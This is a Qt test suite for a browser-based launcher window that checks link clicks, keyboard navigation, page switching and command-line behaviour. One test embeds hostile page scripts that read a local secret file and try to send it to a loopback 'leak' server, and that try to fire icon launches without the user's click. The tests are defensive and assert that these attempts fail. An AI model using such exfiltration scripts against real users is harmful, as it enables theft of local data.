// The launcher window with a real browser engine: generated pages, real clicks on their
// links, a recording script as the icons' command; one window shows page after page.

#include "NamedSetting.h"
#include "ScriptedPrompter.h"
#include "TestFiles.h"
#include "Widgets.h"
#include "components/KeyValueFile.h"
#include "edits/Document.h"
#include "generator/PageWriter.h"
#include "launcher/IconStart.h"
#include "launcher/LauncherPage.h"
#include "launcher/LauncherWindow.h"
#include "widgets/BrowserEngine.h"

#include <QApplication>
#include <QDesktopServices>
#include <QDir>
#include <QImage>
#include <QProcess>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEngineView>
#include <memory>
#include <unistd.h>

using namespace ulvanta;
using namespace ulvanta::launcher;
using test::writeFile;

namespace {

// The page the editor builds from "Name=value" settings ("Path=" names the document).
QByteArray buildPage(const QStringList& settings, const std::vector<ItemRow>& icons) {
    Document doc;
    doc.resetProperties();
    for (const QString& s : settings) {
        if (s.startsWith(QLatin1String("Path=")))
            doc.setFilePath(s.mid(5));
        else
            test::setNamedSetting(doc, s);
    }
    doc.items().appendItems(icons);
    return PageWriter(doc).page().toUtf8();
}

} // namespace

class TestLauncherWindow : public QObject {
    Q_OBJECT

public:
    // The link schemes must be known before the browser engine starts.
    static void initMain() {
        prepareBrowserEngine();
        registerLinkSchemes();
    }

public slots:
    void desktopOpens(const QUrl& url) { m_opened << url; }

private slots:
    void initTestCase() {
        QVERIFY(m_dir.isValid() && QDir().mkpath(m_startIn));
        // Stands in for the icons' program and for the editor beside the launcher: writes
        // its folder, display and standard output, then its arguments, a line each.
        for (const QString& program : {m_program, at("@/ulvanta-editor")})
            QVERIFY(writeFile(program, "#!/bin/sh\no=$(readlink /proc/$$/fd/1)\nprintf '%s\\n' "
                                       "\"$(pwd)\" \"$DISPLAY\" \"$o\" \"$@\" >\"$RECORD.new\" && "
                                       "mv \"$RECORD.new\" \"$RECORD\"\n") &&
                    QFile::setPermissions(program, QFile::ReadOwner | QFile::ExeOwner));
        qputenv("RECORD", QFile::encodeName(m_record));
        QDesktopServices::setUrlHandler("file", this, "desktopOpens");
        QVERIFY(writeFile(m_source, "VODK") && writeFile(m_document, "notes\n"));
        m_window = std::make_unique<LauncherWindow>(&m_prompter, m_dir.path());
        // A web server on the loopback interface serving a page with an icon.
        QVERIFY(m_server.listen(QHostAddress::LocalHost) && m_leak.listen(QHostAddress::LocalHost));
        connect(&m_leak, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* s = m_leak.nextPendingConnection())
                connect(s, &QTcpSocket::readyRead, s, [s, this] { m_leaked += s->readAll(); });
        });
        QVERIFY(writeFile(at("@/secret.txt"), "top secret"));
        // Pictures a page shows: one beside it, one elsewhere on this machine.
        for (const QString& folder : {m_dir.path(), m_startIn})
            QVERIFY(QImage(4, 4, QImage::Format_RGB32).save(folder + "/pic.png"));
        connect(&m_server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* s = m_server.nextPendingConnection())
                connect(s, &QTcpSocket::readyRead, s, [s, this] {
                    s->write("HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n" +
                             buildPage({}, {icon("Run me", m_program)}));
                    s->disconnectFromHost();
                });
        });
    }
    void init() {
        m_leaked.clear();
        QFile::remove(m_record);
        m_opened.clear();
        m_prompter.messages.clear();
    }
    void cleanupTestCase() { QDesktopServices::unsetUrlHandler("file"); }

    void onlyTheUsersClickStartsAnIcon_data() {
        QTest::addColumn<QString>("header"); // the page's Header HTML, run before the clicks
        QTest::addColumn<QStringList>("links");
        // The program's arguments, the address opened, the message shown or nothing.
        QTest::addColumn<QVariant>("expected");
        // What the page's link encodes, the browser hands back and the launcher decodes.
        QTest::newRow("quotes, commas, percent signs, entities and accents")
            << "" << QStringList{"Awkward"}
            << QVariant(QStringList{"two words", "a,b", QString::fromUtf8("café"), "say \"hi\"",
                                    "100%", "a&b", "A", "A&gt;B", "x,y", "C&#65;", "q&amp;r"});
        QTest::newRow("hidden: no display nor terminal")
            << "" << QStringList{"Hidden"} << QVariant(QStringList{"a", "b"});
        QTest::newRow("document") << "" << QStringList{"Document"}
                                  << QVariant(QUrl::fromLocalFile(m_document));
        QTest::newRow("command starting with two slashes")
            << "" << QStringList{"Slashes"}
            << QVariant(QString::fromUtf8("An error occurred when running the command - "
                                          "'//Café/X y' - Path not found, 76\n\n") +
                        launcher::missingFileAdvice(QString::fromUtf8("//Café/X y")));
        QTest::newRow("icon clicked by a script")
            << "<script>addEventListener('load', () => document.links[0].click());</script>"
            << QStringList{"Run"} << QVariant(QStringList{"clicked"});
        QTest::newRow("page from the network")
            << QStringLiteral("<a href=\"http://127.0.0.1:%1/\">Remote page</a>")
                   .arg(m_server.serverPort())
            << QStringList{"Remote page", "Run me"} << QVariant();
    }
    void onlyTheUsersClickStartsAnIcon() {
        QFETCH(QString, header);
        QFETCH(QStringList, links);
        QFETCH(QVariant, expected);
        QVERIFY(show(writePage({"Minimise on use=True", "Header HTML=" + header}, m_icons)));
        QVERIFY(record(1500).isEmpty());
        for (const QString& link : links)
            QVERIFY(clickLink(link));
        if (!expected.isValid() || expected.typeId() == QMetaType::QString) {
            QTRY_COMPARE_WITH_TIMEOUT(m_prompter.messages.value(0).text, expected.toString(),
                                      10000);
            QVERIFY(record(1500).isEmpty());
            QCOMPARE(m_prompter.messages.size(), expected.isValid() ? 1 : 0);
            return;
        }
        if (expected.typeId() == QMetaType::QUrl) {
            QTRY_COMPARE_WITH_TIMEOUT(m_opened, QList<QUrl>{expected.toUrl()}, 10000);
        } else {
            const QStringList r = record();
            const bool hidden = links[0] == QLatin1String("Hidden");
            QCOMPARE(r.mid(3), expected.toStringList());
            QCOMPARE(r.value(0), m_startIn);
            QCOMPARE(r.value(1).isEmpty(), hidden);                     // the display
            QCOMPARE(r.value(2) == QLatin1String("/dev/null"), hidden); // standard output
        }
        QVERIFY(m_window->isMinimized());
    }
    void hostilePageSendsAndStartsNothing_data() {
        QTest::addColumn<QString>("script"); // in a page that defines read(), got, L and I()
        QTest::addColumn<QString>("act");    // the user's: click "empty" space, key "Down", a link
        const QString onLoad = "addEventListener('load', () => %1)";
        // Tries to start the icon, then to send the secret out.
        const QString both = "addEventListener('%1', () => { location = I(); setTimeout(() => "
                             "location = L + read(), 300); })";
        QTest::newRow("read on load, sent to a &comma; address")
            << onLoad.arg("location = L + read()") << "";
        QTest::newRow("read on load, sent by requests")
            << onLoad.arg("{const d = read(); fetch(L + d, {mode: 'no-cors'}); new Image().src "
                          "= L + d; navigator.sendBeacon(L, d); new WebSocket('ws' + L.slice(4) "
                          "+ d);}")
            << "";
        QTest::newRow("local file read in a frame")
            << onLoad.arg("{const f = document.createElement('iframe'); f.onload = () => { "
                          "try { got += f.contentDocument.body.innerText } catch (e) {} location "
                          "= L + got; }; f.src = 'secret.txt'; document.body.append(f);}")
            << "";
        QTest::newRow("click elsewhere") << both.arg("mousedown") << "empty";
        QTest::newRow("key press") << both.arg("keydown") << "Down";
        QTest::newRow("link made and clicked after a click")
            << "addEventListener('click', () => setTimeout(() => { const a = "
               "document.createElement('a'); a.href = I(); document.body.append(a); a.click(); "
               "}, 1200))"
            << "empty";
        QTest::newRow("safe link rewritten on click")
            << onLoad.arg("safe.onclick = function () { this.href = I(); }") << "Safe";
        QTest::newRow("synthetic events on the icon")
            << onLoad.arg("{const a = document.querySelector('a[href^=\"pm:\"]'); a.focus(); "
                          "for (const t of ['keydown', 'keypress', 'mousedown', 'click']) "
                          "a.dispatchEvent(new (t[0] == 'k' ? KeyboardEvent : MouseEvent)(t, "
                          "{key: 'Enter', bubbles: true, detail: 1}));}")
            << "";
    }
    void hostilePageSendsAndStartsNothing() {
        QFETCH(QString, script);
        QFETCH(QString, act);
        QVERIFY(show(writePage(
            {"Header HTML=<img src=\"pic.png\"><img src=\"" +
             QUrl::fromLocalFile(m_startIn + "/pic.png").toString(QUrl::FullyEncoded) +
             "\"><a id=\"safe\" href=\"#safe\">Safe</a><script>const L = "
             "'http://127.0.0.1:" +
             QString::number(m_leak.serverPort()) +
             "/leak&comma;?d=', I = () => document.querySelector('a[href^=\"pm:\"]').href; let "
             "got = ''; function read() { try { const x = new XMLHttpRequest(); x.open('GET', "
             "'secret.txt', false); x.send(); return got += x.responseText; } catch (e) { return "
             "'none'; } } " +
             script + "</script>"},
            m_icons)));
        QWidget* input = m_window->view()->focusProxy();
        if (act == QLatin1String("empty"))
            QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(5, input->height() - 5));
        else if (act == QLatin1String("Down"))
            QTest::keyClick(input, Qt::Key_Down);
        else if (!act.isEmpty())
            QVERIFY(clickLink(act));
        QVERIFY(record(3000).isEmpty());
        QVariant got;
        m_window->view()->page()->runJavaScript(
            "got + Array.from(document.images).filter(i => i.naturalWidth).length",
            [&got](const QVariant& v) { got = v; });
        QTRY_COMPARE(got, QVariant("2")); // nothing read, both pictures shown
        // The page still works: the user's own Enter or Space on the icon starts it.
        m_window->view()->page()->runJavaScript(
            "document.querySelector('td a[href^=\"pm:\"]').focus()", [input, act](const QVariant&) {
                QTest::keyClick(input, act.isEmpty() ? Qt::Key_Space : Qt::Key_Return);
            });
        QCOMPARE(record().mid(3), QStringList{"clicked"});
        QVERIFY2(m_prompter.messages.isEmpty() && m_leaked.isEmpty(), m_leaked.constData());
    }
    void keysFindAndStartIcons_data() {
        QTest::addColumn<QString>("script"); // the page's own, run on load
        QTest::addColumn<QString>("typed");
        QTest::addColumn<QList<int>>("keys");     // pressed after typing
        QTest::addColumn<QString>("shown");       // icons and headings then shown
        QTest::addColumn<QStringList>("started"); // the icon's arguments, after Enter
        const QList<int> homeRight{Qt::Key_Escape, Qt::Key_Home, Qt::Key_Right};
        QTest::newRow("typed") << ""
                               << "calc" << QList<int>{} << "1 0" << QStringList{"calc"};
        QTest::newRow("initials") << ""
                                  << "tc" << QList<int>{} << "1 1" << QStringList{"tea"};
        QTest::newRow("Home, Right") << ""
                                     << "" << homeRight << "4 1" << QStringList{"tea"};
        QTest::newRow("Down in the grid")
            << ""
            << "" << homeRight + QList<int>{Qt::Key_Down} << "4 1" << QStringList{"water"};
        QTest::newRow("nothing found") << ""
                                       << "zq" << QList<int>{} << "0 0" << QStringList{};
        QTest::newRow("writing in a field of the page")
            << "const f = document.createElement('input'); f.style = 'position: fixed; left: 0; "
               "bottom: 0'; document.body.append(f);"
            << "calc" << QList<int>{Qt::Key_Return} << "4 1" << QStringList{};
        QTest::newRow("the page's own keys and focus")
            << "document.querySelector('td a').focus(); for (const k of ['c', 'a', 'l', 'c', "
               "'Home', 'Enter', ' ']) for (const t of ['keydown', 'keypress', 'keyup']) "
               "document.activeElement.dispatchEvent(new KeyboardEvent(t, {key: k, bubbles: "
               "true})); try { ulvantaKeys.show([], false, 0); } catch (e) {}"
            << "" << QList<int>{} << "4 1" << QStringList{};
    }
    void keysFindAndStartIcons() {
        QFETCH(QString, script);
        QFETCH(QString, typed);
        QFETCH(QList<int>, keys);
        const QString section = "SECTION:Drinks;Columns:2;Icon size:32;Icons above:True;Table "
                                "border:False";
        QVERIFY(show(writePage(
            {"Header HTML=<script>addEventListener('load', () => {" + script + "});</script>"},
            {icon("Calculator", m_program, "calc"),
             {section},
             icon("Tea, coffee", m_program, "tea"),
             icon("Alpha Beta", m_program, "ab"),
             icon("Water", m_program, "water")})));
        QWidget* input = m_window->view()->focusProxy();
        // The user's click where a page may have a field.
        QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(5, input->height() - 5));
        QTest::qWait(500);
        QTest::keyClicks(input, typed);
        for (const int key : keys)
            QTest::keyClick(input, Qt::Key(key));
        // What the page shows, and how a comma in a description is shown.
        QFETCH(QString, shown);
        const auto seen = std::make_shared<QString>();
        const auto ask = [&] {
            m_window->view()->page()->runJavaScript(
                "(n => `${n('td > a')} ${n('h2')} ${document.querySelector('a[title*=\",\"]')"
                "?.textContent}`)(q => Array.from(document.querySelectorAll(q)).filter(e => "
                "e.getClientRects().length).length)",
                [seen](const QVariant& v) { *seen = v.toString(); });
            return QTest::qWaitFor([&] { return seen->section(' ', 0, 1) == shown; }, 300);
        };
        QVERIFY2(QTest::qWaitFor(ask, 10000), qPrintable(*seen));
        QCOMPARE(seen->section(' ', 2), QStringLiteral("Tea, coffee"));
        if (script.isEmpty()) {
            QTest::keyClick(input, Qt::Key_Return);
        } else if (typed.isEmpty()) { // as a screen reader reads the page
            QAccessible::setActive(true);
            QTRY_VERIFY(accessibleLinks(QAccessible::queryAccessibleInterface(m_window->view()))
                            .contains("Tea, coffee"));
            QAccessible::setActive(false);
        }
        QFETCH(QStringList, started);
        QCOMPARE(record(started.isEmpty() ? 3000 : 15000).mid(3), started);
        QVERIFY(m_prompter.messages.isEmpty());
    }
    void anotherPageTakesOverTheWindow_data() {
        QTest::addColumn<QString>("link");
        QTest::addColumn<QString>("name"); // of the page then shown
        QTest::newRow("refresh rereads the page") << QString("Refresh") << QString("page.htm");
        QTest::newRow("open shows the chosen page") << QString("Open") << QString("second é.htm");
        QTest::newRow("hyperlink item") << QString("Go there") << QString("linked, é.htm");
        QTest::newRow("new window link") << QString("New window") << QString("linked, é.htm");
    }
    void anotherPageTakesOverTheWindow() {
        QFETCH(QString, link);
        QFETCH(QString, name);
        QVERIFY(show(writePage(
            {"Show open command=True", "Show refresh command=True",
             "Header HTML=<a href=\"linked, é.htm\" target=\"_blank\">New window</a>"},
            {{"Go there", at("@/linked, é.htm"), {}, {}, {}, "Hyperlink", {}}}, "page.htm")));
        QVERIFY(!m_window->windowFlags().testFlag(Qt::CustomizeWindowHint));
        QCOMPARE(m_window->view()->contextMenuPolicy(), Qt::CustomContextMenu);
        const QString second = writePage(m_fixedPage, {}, name);
        if (link == QLatin1String("Open"))
            m_prompter.files.push_back(second);
        QVERIFY(clickLink(link));
        QTRY_COMPARE(m_window->windowTitle(), QStringLiteral("Fixed"));
        QCOMPARE(m_window->pagePath(), second);
        QTRY_VERIFY(m_window->isMaximized());
        QVERIFY(m_window->windowFlags().testFlag(Qt::CustomizeWindowHint));
        QVERIFY(!m_window->windowFlags().testFlag(Qt::WindowCloseButtonHint));
        QCOMPARE(m_window->view()->contextMenuPolicy(), Qt::NoContextMenu);
        // The page now shown acts on clicks.
        QVERIFY(clickLink("Edit"));
        QCOMPARE(record().mid(3), QStringList{m_source});
    }
    void programRunsAsAUserRunsIt_data() {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<int>("exitCode");
        QTest::addColumn<QString>("output"); // part of what it writes
        const QString page = writePage({}, m_icons);
        const QString missing = at("@/absent.htm");
        const QString notFound = "'" + missing + "' - File not found, 53";
        QTest::newRow("help") << QStringList{"--help"} << 0 << "--quiet";
        QTest::newRow("unknown option") << QStringList{"--colour"} << 2 << "'--colour'";
        QTest::newRow("quiet without a page") << QStringList{"--quiet"} << 2 << "--quiet";
        QTest::newRow("quiet") << QStringList{"--quiet", missing} << 1 << notFound;
        QTest::newRow("no display") << QStringList{missing} << 1 << notFound;
        QTest::newRow("no display, good page") << QStringList{page} << 1 << "no display";
        // Shows the page until a signal ends it: the engine starts for root too.
        QTest::newRow("signal") << QStringList{page} << 0
                                << (geteuid() == 0 ? "without its sandbox" : "");
    }
    void programRunsAsAUserRunsIt() {
        QFETCH(QStringList, arguments);
        QProcess launcher;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.remove("QTWEBENGINE_DISABLE_SANDBOX"); // this test's own engine set it
        for (const char* name : {"DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM"})
            if (QByteArray(QTest::currentDataTag()).startsWith("no display"))
                env.remove(name);
        launcher.setProcessEnvironment(env);
        launcher.setProcessChannelMode(QProcess::MergedChannels);
        launcher.start(qEnvironmentVariable("ULVANTA_BIN") + "/ulvanta2.exe", arguments);
        QVERIFY(launcher.waitForStarted());
        if (QTest::currentDataTag() == QLatin1String("signal")) {
            QVERIFY(!launcher.waitForFinished(5000)); // the window is up
            launcher.terminate();                     // SIGTERM
        }
        QVERIFY(launcher.waitForFinished(5000));
        QFETCH(QString, output);
        const QString written = QString::fromUtf8(launcher.readAll());
        QVERIFY2(written.contains(output), qPrintable(written));
        QTEST(launcher.exitCode(), "exitCode");
    }
    // Last: after Exit the window is gone.
    void fixedWindowFollowsItsCommandBar() {
        QVERIFY(show(writePage(m_fixedPage)));
        QVERIFY(clickLink("Maximise")); // back to the page's size
        QTRY_VERIFY(!m_window->isMaximized());
        QTRY_COMPARE(m_window->size(),
                     QSize(PageSettings::DefaultWidth, PageSettings::DefaultHeight));
        QVERIFY(clickLink("Minimise"));
        QTRY_VERIFY(m_window->isMinimized());
        m_window->showNormal();
        QVERIFY(!m_window->close());
        QVERIFY(clickLink("Exit"));
        QTRY_VERIFY(!m_window->isVisible());
    }

private:
    QString at(QString text) const { return text.replace(QLatin1Char('@'), m_dir.path()); }
    ItemRow icon(const QString& description, const QString& command, const QString& parameters = {},
                 const QString& run = "Normal Window") const {
        return {description, command, parameters, m_startIn, {}, run, {}};
    }
    QString writePage(const QStringList& settings, const std::vector<ItemRow>& icons = {},
                      const QString& name = {}) {
        const QString path =
            at("@/" + (name.isEmpty() ? QStringLiteral("page %1.htm").arg(++m_pages) : name));
        return writeFile(path, buildPage(settings, icons)) ? path : QString();
    }
    // Shows the page in the window; waits until the view has loaded it.
    bool show(const QString& page) {
        const QUrl want = QUrl::fromLocalFile(page);
        const auto state = std::make_shared<QString>(); // the address shown, its ready state
        const auto ask = [&] {
            m_window->view()->page()->runJavaScript(
                "location.href + ' ' + document.readyState",
                [state](const QVariant& v) { *state = v.toString(); });
            return QTest::qWaitFor(
                [&] { return *state == want.toString(QUrl::FullyEncoded) + " complete"; }, 200);
        };
        return m_window->openPage(page) && QTest::qWaitFor(ask, 30000);
    }
    // Clicks, with the mouse, the link with this text (no quotes), once the page shows it.
    bool clickLink(const QString& text) {
        const QString script =
            QStringLiteral(
                "(function(){var a=Array.from(document.links).find(e=>e.textContent"
                "==='%1');if(!a)return null;a.scrollIntoView();var r=a."
                "getBoundingClientRect();return [r.left+r.width/2,r.top+r.height/2];})()")
                .arg(text);
        // Each answer lands in this call's own list, however late it comes.
        const auto at = std::make_shared<QVariantList>();
        const auto ask = [&] {
            m_window->view()->page()->runJavaScript(script,
                                                    [at](const QVariant& v) { *at = v.toList(); });
            return QTest::qWaitFor([&] { return at->size() == 2; }, 200);
        };
        if (!QTest::qWaitFor(ask, 15000) || !m_window->view()->focusProxy())
            return false;
        QTest::mouseClick(m_window->view()->focusProxy(), Qt::LeftButton, {},
                          QPoint(qRound(at->at(0).toDouble()), qRound(at->at(1).toDouble())));
        return true;
    }
    // What the recording script wrote, once it has; empty when it has not in time.
    QStringList record(int timeout = 15000) const {
        (void)QTest::qWaitFor([&] { return QFile::exists(m_record); }, timeout);
        QStringList lines = QString::fromUtf8(test::readAll(m_record)).split(QLatin1Char('\n'));
        lines.removeLast(); // after the last line break
        return lines;
    }

    QTemporaryDir m_dir;
    QTcpServer m_server;
    QTcpServer m_leak; // where a hostile page would send what it read
    QByteArray m_leaked;
    // The recording script and the start-in folder, with awkward names.
    QString m_program = at(QString::fromUtf8("@/bin, \"é\" 1/rec, \"q\" é"));
    QString m_startIn = at(QString::fromUtf8("@/start, \"in\" é"));
    QString m_record = at("@/record"); // where the recording script writes
    QString m_document = at(QString::fromUtf8("@/notes, é & \"more\".txt"));
    QString m_source = at(QString::fromUtf8("@/my menu, é&1.pmf"));
    // A page that may not be closed and names the document it was built from.
    QStringList m_fixedPage = QString("Title=Fixed|Start maximised=True|Closable=False|"
                                      "Extra commands=False|Show exit command=True|"
                                      "Show minimise command=True|Show maximise command=True|"
                                      "Show edit command=True|Path=" +
                                      m_source)
                                  .split(QLatin1Char('|'));
    std::vector<ItemRow> m_icons{
        icon("Run", m_program, "clicked"),
        icon("Awkward", m_program,
             QString::fromUtf8("\"two words\" \"a,b\" café \"say \\\"hi\\\"\" 100% a&b %41 A&gt;B "
                               "x&comma;y C&#65; \"q&amp;r\"")),
        icon("Hidden", m_program, "a b", "Hidden"), icon("Document", m_document),
        icon("Slashes", QString::fromUtf8("//Café/X y"))};
    int m_pages = 0;
    QList<QUrl> m_opened;
    test::ScriptedPrompter m_prompter;
    std::unique_ptr<LauncherWindow> m_window;
};

QTEST_MAIN(TestLauncherWindow)

#include "tst_launcher_window_web.moc"
